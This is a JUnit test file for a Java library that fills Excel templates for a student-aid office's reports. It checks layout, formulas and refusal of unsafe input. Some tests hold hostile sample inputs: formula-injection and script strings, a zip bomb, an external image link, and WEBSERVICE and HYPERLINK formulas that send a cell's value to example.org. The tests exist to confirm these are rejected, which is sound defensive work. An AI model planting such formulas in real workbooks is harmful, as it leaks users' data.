package io.zhuxue.reporting.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.zhuxue.core.money.Money;
import io.zhuxue.core.table.SheetColumn;
import io.zhuxue.core.table.TableException;
import io.zhuxue.reporting.ReportingException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.FillPatternType;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFCellStyle;
import org.apache.poi.xssf.usermodel.XSSFClientAnchor;
import org.apache.poi.xssf.usermodel.XSSFColor;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class WorkbookTemplateTest {

    private static final List<SheetColumn> COLUMNS =
            List.of(SheetColumn.text("学校", 20), SheetColumn.whole("人数", 8), SheetColumn.money("金额（元）", 14));

    private static final List<Object[]> ROWS = List.of(
            new Object[] {"第一小学", 3L, Money.ofFen(150_050)},
            new Object[] {"=1+1", 4L, Money.ofFen(25)},
            new Object[] {"<script>&", 5L, Money.ofFen(0)});

    @TempDir
    Path folder;

    /** Title, widths and fill of an office's own; below the table a sum, a merged line of signatures and a seal. */
    private Path officeTemplate() throws IOException {
        return workbook(book -> {
            XSSFSheet sheet = book.createSheet("本局表样");
            sheet.setColumnWidth(1, 33 * 256);
            sheet.createRow(0).createCell(0).setCellValue("某某县学生资助管理中心 {{title}}（{{region}}）");
            sheet.createRow(1).createCell(1).setCellFormula("SUM(D4:D4)");
            XSSFCellStyle fill = book.createCellStyle();
            fill.setFillForegroundColor(new XSSFColor(new byte[] {(byte) 0xC0, 0x39, 0x2B}, null));
            fill.setFillPattern(FillPatternType.SOLID_FOREGROUND);
            sheet.createRow(2).createCell(1).setCellValue("学 校");
            sheet.getRow(2).getCell(1).setCellStyle(fill);
            var row = sheet.createRow(3);
            row.setHeightInPoints(25);
            String[] cells = {"{{row:#}}", "{{row:学校}}", "{{row: 人数 }}", "{{row:金额（元）}}"};
            for (int i = 0; i < cells.length; i++) {
                row.createCell(i).setCellValue(cells[i]);
                row.getCell(i).setCellStyle(fill);
            }
            row.createCell(4).setCellFormula("C4*2+$C$2");
            row.createCell(5).setCellValue("共{{row:人数}}人");
            var sum = sheet.createRow(4);
            sum.createCell(0).setCellValue("合计{{count}}所");
            sum.createCell(2).setCellFormula("SUM(C4:C4)");
            sum.createCell(3).setCellValue("{{sum:金额（元）}}");
            sheet.createRow(6).createCell(0).setCellValue("填报人：");
            sheet.addMergedRegion(new CellRangeAddress(6, 6, 0, 3));
            sheet.getWorkbook().setPrintArea(0, 0, 5, 0, 6);
            byte[] seal = {(byte) 0x89, 'P', 'N', 'G', 1, 2, 3};
            int picture = book.addPicture(seal, XSSFWorkbook.PICTURE_TYPE_PNG);
            sheet.createDrawingPatriarch().createPicture(new XSSFClientAnchor(0, 0, 0, 0, 3, 6, 4, 9), picture);
            book.createSheet("说明").createRow(0).createCell(0).setCellValue("范围：{{region}}");
        });
    }

    private Path workbook(Consumer<XSSFWorkbook> content) throws IOException {
        Path file = folder.resolve("template-" + System.nanoTime() + ".xlsx");
        try (XSSFWorkbook book = new XSSFWorkbook();
                OutputStream out = Files.newOutputStream(file)) {
            content.accept(book);
            book.write(out);
        }
        return file;
    }

    private Path filled(Path template, List<Object[]> rows, String name) {
        Path target = folder.resolve(name);
        WorkbookTemplate opened = WorkbookTemplate.open(template, "表样.xlsx");
        try (TemplateFilling filling = opened.fill(target, Map.of("region", "长沙县"))) {
            filling.table(opened.table(), COLUMNS, Map.of("title", "受助学生"), rows::forEach);
            filling.commit();
        }
        return target;
    }

    private static List<Row> rows(Path xlsx) throws IOException {
        try (InputStream in = Files.newInputStream(xlsx);
                ReadableWorkbook book = new ReadableWorkbook(in)) {
            return book.getFirstSheet().read();
        }
    }

    private static XSSFWorkbook open(Path xlsx) throws IOException {
        try (InputStream in = Files.newInputStream(xlsx)) {
            return new XSSFWorkbook(in);
        }
    }

    @Test
    void the_figures_stand_in_the_offices_own_sheet() throws IOException {
        List<Row> rows = rows(filled(officeTemplate(), ROWS, "a.xlsx"));

        assertThat(rows.get(0).getCellText(0)).isEqualTo("某某县学生资助管理中心 受助学生（长沙县）");
        assertThat(rows.get(3).getCellAsNumber(0).orElseThrow()).isEqualByComparingTo("1");
        assertThat(rows.get(3).getCellText(1)).isEqualTo("第一小学");
        assertThat(rows.get(3).getCellAsNumber(3).orElseThrow()).isEqualByComparingTo("1500.5");
        assertThat(rows.get(3).getCellText(5)).isEqualTo("共3人");
        assertThat(rows.get(4).getCellText(1)).isEqualTo("=1+1");
        assertThat(rows.get(5).getCellAsNumber(0).orElseThrow()).isEqualByComparingTo("3");
        assertThat(rows.get(5).getCellText(1)).isEqualTo("<script>&");
        assertThat(rows.get(6).getCellText(0)).isEqualTo("合计3所");
        assertThat(rows.get(6).getCellAsNumber(3).orElseThrow()).isEqualByComparingTo("1500.75");
    }

    @Test
    void a_text_that_looks_like_a_formula_stays_a_text() throws IOException {
        try (XSSFWorkbook book = open(filled(officeTemplate(), ROWS, "a.xlsx"))) {
            assertThat(book.getSheetAt(0).getRow(4).getCell(1).getCellType()).isEqualTo(CellType.STRING);
        }
    }

    @Test
    void everything_else_of_the_template_stays() throws IOException {
        try (XSSFWorkbook book = open(filled(officeTemplate(), ROWS, "a.xlsx"))) {
            XSSFSheet sheet = book.getSheetAt(0);

            assertThat(sheet.getColumnWidth(1)).isEqualTo(33 * 256);
            assertThat(sheet.getRow(2)
                            .getCell(1)
                            .getCellStyle()
                            .getFillForegroundColorColor()
                            .getARGBHex())
                    .endsWith("C0392B");
            assertThat(sheet.getRow(5)
                            .getCell(1)
                            .getCellStyle()
                            .getFillForegroundColorColor()
                            .getARGBHex())
                    .as("the look of the repeated row is that of each copy")
                    .endsWith("C0392B");
            assertThat(sheet.getRow(5).getHeightInPoints()).isEqualTo(25);
            assertThat(sheet.getRow(3).getCell(3).getCellStyle().getDataFormatString())
                    .as("money is shown as money where the office chose no format")
                    .isEqualTo("#,##0.00");
            assertThat(book.getAllPictures().get(0).getData()).startsWith(0x89, 'P', 'N', 'G');
            assertThat(book.getSheet("说明").getRow(0).getCell(0).getStringCellValue())
                    .isEqualTo("范围：长沙县");
        }
    }

    @Test
    void what_stands_below_the_table_moves_down_with_its_rows() throws IOException {
        try (XSSFWorkbook book = open(filled(officeTemplate(), ROWS, "a.xlsx"))) {
            XSSFSheet sheet = book.getSheetAt(0);

            assertThat(sheet.getRow(8).getCell(0).getStringCellValue()).isEqualTo("填报人：");
            assertThat(sheet.getMergedRegions()).containsExactly(CellRangeAddress.valueOf("A9:D9"));
            var seal = (XSSFClientAnchor)
                    sheet.getDrawingPatriarch().getShapes().get(0).getAnchor();
            assertThat(seal.getRow1()).isEqualTo(8);
            assertThat(seal.getRow2()).isEqualTo(11);
            assertThat(book.getPrintArea(0)).endsWith("$A$1:$F$9");
        }
    }

    @Test
    void formulas_go_over_all_rows_of_the_table() throws IOException {
        try (XSSFWorkbook book = open(filled(officeTemplate(), ROWS, "a.xlsx"))) {
            XSSFSheet sheet = book.getSheetAt(0);

            assertThat(sheet.getRow(1).getCell(1).getCellFormula()).as("above").isEqualTo("SUM(D4:D6)");
            assertThat(sheet.getRow(6).getCell(2).getCellFormula()).as("below").isEqualTo("SUM(C4:C6)");
            assertThat(sheet.getRow(5).getCell(4).getCellFormula())
                    .as("in the third row, with its fixed cell")
                    .isEqualTo("C6*2+$C$2");
            assertThat(book.getForceFormulaRecalculation()).isTrue();
        }
    }

    @Test
    void readers_that_go_by_the_stated_size_see_all_rows() throws IOException {
        Path file = filled(officeTemplate(), ROWS, "a.xlsx");

        try (ZipFile zip = new ZipFile(file.toFile())) {
            String sheet = new String(
                    zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes(),
                    StandardCharsets.UTF_8);
            assertThat(sheet).contains("<dimension ref=\"A1:F9\"");
        }
    }

    @Test
    void a_table_without_rows_is_one_blank_line_of_its_look() throws IOException {
        try (XSSFWorkbook book = open(filled(officeTemplate(), List.of(), "a.xlsx"))) {
            XSSFSheet sheet = book.getSheetAt(0);

            assertThat(sheet.getRow(3).getCell(1).getCellType()).isEqualTo(CellType.BLANK);
            assertThat(sheet.getRow(4).getCell(0).getStringCellValue()).isEqualTo("合计0所");
            assertThat(sheet.getRow(4).getCell(3).getNumericCellValue()).isZero();
            assertThat(sheet.getRow(6).getCell(0).getStringCellValue()).isEqualTo("填报人：");
        }
    }

    @Test
    void the_same_rows_give_the_same_bytes() throws IOException {
        Path template = officeTemplate();

        assertThat(filled(template, ROWS, "a.xlsx")).hasSameBinaryContentAs(filled(template, ROWS, "b.xlsx"));
    }

    @Test
    void a_filling_that_is_broken_off_leaves_nothing_behind() throws IOException {
        Path template = officeTemplate();

        assertThatThrownBy(() -> {
                    WorkbookTemplate opened = WorkbookTemplate.open(template, "表样.xlsx");
                    try (TemplateFilling filling = opened.fill(folder.resolve("c.xlsx"), Map.of("region", ""))) {
                        filling.table(opened.table(), COLUMNS, Map.of("title", ""), out -> {
                            throw new IllegalStateException("the database is gone");
                        });
                    }
                })
                .isInstanceOf(IllegalStateException.class);
        try (var files = Files.list(folder)) {
            assertThat(files).containsExactly(template);
        }
    }

    @Test
    void a_place_that_nobody_fills_is_named_with_what_it_may_say() throws IOException {
        Path template = workbook(
                book -> book.createSheet("表").createRow(2).createCell(1).setCellValue("{{row:年龄}}"));

        assertThatThrownBy(() -> WorkbookTemplate.open(template, "表样.xlsx").check("表", COLUMNS, Set.of("title")))
                .isInstanceOf(ReportingException.class)
                .hasMessageContaining("TEMPLATE_WORD_UNKNOWN")
                .hasMessageContaining("表!B3")
                .hasMessageContaining("row:年龄")
                .hasMessageContaining("row:学校");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{sum:学校}}", "{{sum:年龄}}", "{{made}}"})
    void words_that_mean_nothing_here_are_refused(String word) throws IOException {
        Path template = workbook(book -> {
            var sheet = book.createSheet("表");
            sheet.createRow(0).createCell(0).setCellValue("{{row:学校}}");
            sheet.createRow(1).createCell(0).setCellValue(word);
        });

        assertThatThrownBy(() -> WorkbookTemplate.open(template, "t").check("表", COLUMNS, Set.of("title")))
                .hasMessageContaining("TEMPLATE_WORD_UNKNOWN");
    }

    @Test
    void a_template_has_one_row_that_repeats() throws IOException {
        Path none = workbook(
                book -> book.createSheet("表").createRow(0).createCell(0).setCellValue("{{title}}"));
        Path two = workbook(book -> {
            var sheet = book.createSheet("表");
            sheet.createRow(0).createCell(0).setCellValue("{{row:学校}}");
            sheet.createRow(5).createCell(0).setCellValue("{{row:学校}}");
        });
        Path merged = workbook(book -> {
            var sheet = book.createSheet("表");
            sheet.createRow(0).createCell(0).setCellValue("{{row:学校}}");
            sheet.addMergedRegion(new CellRangeAddress(0, 1, 0, 1));
        });

        assertThatThrownBy(() -> WorkbookTemplate.open(none, "t")).hasMessageContaining("TEMPLATE_NO_ROW");
        assertThatThrownBy(() -> WorkbookTemplate.open(two, "t")).hasMessageContaining("TEMPLATE_TWO_ROWS");
        assertThatThrownBy(() -> WorkbookTemplate.open(merged, "t")).hasMessageContaining("TEMPLATE_ROW_MERGED");
    }

    @Test
    void what_is_no_workbook_is_refused() throws IOException {
        Path text = Files.writeString(folder.resolve("a.xlsx"), "学校,人数");
        Path zip = folder.resolve("b.xlsx");
        Files.write(zip, zipped(Map.of("hello.txt", "你好")));

        assertThatThrownBy(() -> WorkbookTemplate.open(text, "t"))
                .isInstanceOf(TableException.class)
                .hasMessageContaining("NOT_XLSX");
        assertThatThrownBy(() -> WorkbookTemplate.open(zip, "t"))
                .isInstanceOf(TableException.class)
                .hasMessageContaining("NOT_XLSX");
    }

    @Test
    void a_bomb_is_refused_before_it_is_opened() throws IOException {
        Path bomb = folder.resolve("bomb.xlsx");
        Files.write(bomb, zipped(Map.of("xl/media/a.bin", "0".repeat(40 << 20))));

        assertThatThrownBy(() -> WorkbookTemplate.open(bomb, "t")).hasMessageContaining("XLSX_TOO_BIG");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WEBSERVICE(\"http://example.org/?\"&A1)",
                "HYPERLINK(\"http://example.org/?\"&A1)",
                "1+SUM([1]Sheet1!A1)"
            })
    void a_formula_that_would_send_the_figures_away_is_refused(String formula) throws IOException {
        Path plain = workbook(book -> {
            var row = book.createSheet("表").createRow(0);
            row.createCell(0).setCellValue("{{row:学校}}");
            row.createCell(1).setCellFormula("1+41");
        });
        Path template = changed(plain, "1+41", formula.replace("&", "&amp;").replace("\"", "&quot;"));

        assertThatThrownBy(() -> WorkbookTemplate.open(template, "t")).hasMessageContaining("TEMPLATE_UNSAFE");
    }

    @Test
    void a_picture_from_outside_is_refused_and_a_link_to_click_is_not() throws IOException {
        Path plain = workbook(
                book -> book.createSheet("表").createRow(0).createCell(0).setCellValue("{{row:学校}}"));
        String relation = "<Relationship Id=\"x9\" TargetMode=\"External\" Target=\"http://example.org/a.png\""
                + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/KIND\"/></Relationships>";

        assertThatThrownBy(() -> WorkbookTemplate.open(
                        changed(plain, "</Relationships>", relation.replace("KIND", "image")), "t"))
                .hasMessageContaining("TEMPLATE_UNSAFE");
        assertThat(WorkbookTemplate.open(changed(plain, "</Relationships>", relation.replace("KIND", "hyperlink")), "t")
                        .table())
                .isEqualTo("表");
    }

    private Path changed(Path workbook, String from, String to) throws IOException {
        Path changed = folder.resolve("changed-" + System.nanoTime() + ".xlsx");
        try (ZipFile zip = new ZipFile(workbook.toFile());
                ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(changed))) {
            for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
                out.putNextEntry(new ZipEntry(entry.getName()));
                String text = new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
                out.write(text.replace(from, to).getBytes(StandardCharsets.UTF_8));
            }
        }
        return changed;
    }

    private static byte[] zipped(Map<String, String> parts) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (var part : parts.entrySet()) {
                out.putNextEntry(new ZipEntry(part.getKey()));
                out.write(part.getValue().getBytes(StandardCharsets.UTF_8));
            }
        }
        return bytes.toByteArray();
    }

    @Test
    void the_sample_can_be_filled_as_it_is() throws IOException {
        Path sample = folder.resolve("sample.xlsx");
        SampleTemplate.write(List.of(new SampleTemplate("清单", COLUMNS)), sample);

        List<Row> rows = rows(filled(sample, ROWS, "a.xlsx"));

        assertThat(rows.get(0).getCellText(0)).isEqualTo("受助学生");
        assertThat(rows.get(2).getCellText(2)).isEqualTo("金额（元）");
        assertThat(rows.get(5).getCellText(0)).isEqualTo("<script>&");
        assertThat(rows.get(6).getCellText(0)).isEqualTo("合计（3行）");
        assertThat(rows.get(6).getCellAsNumber(1).orElseThrow()).isEqualByComparingTo("12");
    }
}
